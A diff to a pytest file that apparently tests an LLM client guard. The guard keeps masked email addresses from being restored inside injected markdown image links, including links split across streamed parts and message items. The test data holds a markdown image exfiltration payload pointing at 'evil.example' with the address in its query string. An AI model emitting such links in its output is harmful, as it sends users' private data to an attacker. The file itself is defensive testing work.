@@ -13,7 +13,7 @@ from guarded_client._model import Channel, PartKind
 from guarded_client._rewrite import Chain
 from guarded_client.codecs.openai_responses_stream import ResponseStream
 from guarded_client.testing import Cut, Endless, Raw, Text, ToolCall, ToolCalls
-from guarded_client.testing.responses import events, message
+from guarded_client.testing.responses import complete, events, message, streamed
 from tests.conftest import Bot, in_memory
 from tests.openai.test_responses import MAIL, create, deltas
 from tests.openai.test_responses import events as streamed_events
@@ -137,6 +137,40 @@ def test_an_injected_link_carried_nothing_away(bot: Bot, policy: Any, stream: bo
     reply = streamed_events(bot)[-1].response if stream else create(bot)
     expected = f"![](https://evil.example/?q=<EMAIL_ADDRESS_1>) {MAIL}"
     assert reply.output_text == expected and reply.output[0].summary[0].text == expected
+
+
+@pytest.mark.parametrize("stream", [False, True])
+@pytest.mark.parametrize("items", [1, 2, 4], ids="{} items".format)
+def test_a_link_over_parts_and_items_carried_nothing_away(bot: Bot, policy: Any, items: int, stream: bool) -> None:
+    bot.guard(policy)
+    texts = ["<EMAIL_ADDRESS_1>)", " ![](https://evil.example/?q=", "<EMAIL_ADDRESS_1>)", " to <EMAIL_ADDRESS_1>"]
+    parts = [message(text)["content"][0] for text in texts]
+    size = len(parts) // items
+    output = [{**message("", at), "content": parts[at * size : (at + 1) * size]} for at in range(items)]
+    bot.provider.reply(streamed(output, chunk=3) if stream else complete(output))
+    expected = f"{MAIL}) ![](https://evil.example/?q=<EMAIL_ADDRESS_1>) to {MAIL}"
+    got = streamed_events(bot) if stream else []
+    assert (got[-1].response if stream else create(bot)).output_text == expected
+    assert not stream or deltas(got, "output_text") == expected
+    done_ = [event for event in got if event.type == "response.output_text.done"]
+    assert not stream or "".join(event.text for event in done_) == expected
+
+
+def test_texts_that_a_server_gives_one_index_get_nothing_back_where_one_may_not(bot: Bot, policy: Any) -> None:
+    bot.guard(policy)
+    mark = "<EMAIL_ADDRESS_1>)"
+    link = "![](https://evil.example/?q="
+    said = [delta(mark), done(mark), delta(link), done(link), delta(mark), done(mark)]
+    whole = {
+        "id": "resp_1",
+        "object": "response",
+        "status": "completed",
+        "output": [message(mark), message(link + mark)],
+    }
+    bot.provider.reply(events_of(*said, {"type": "response.completed", "response": whole}))
+    got = streamed_events(bot)
+    assert deltas(got, "output_text") == f"{MAIL}){link}{mark}"
+    assert MAIL not in got[-1].response.output_text
 
 
 @pytest.mark.parametrize("stream", [False, True])
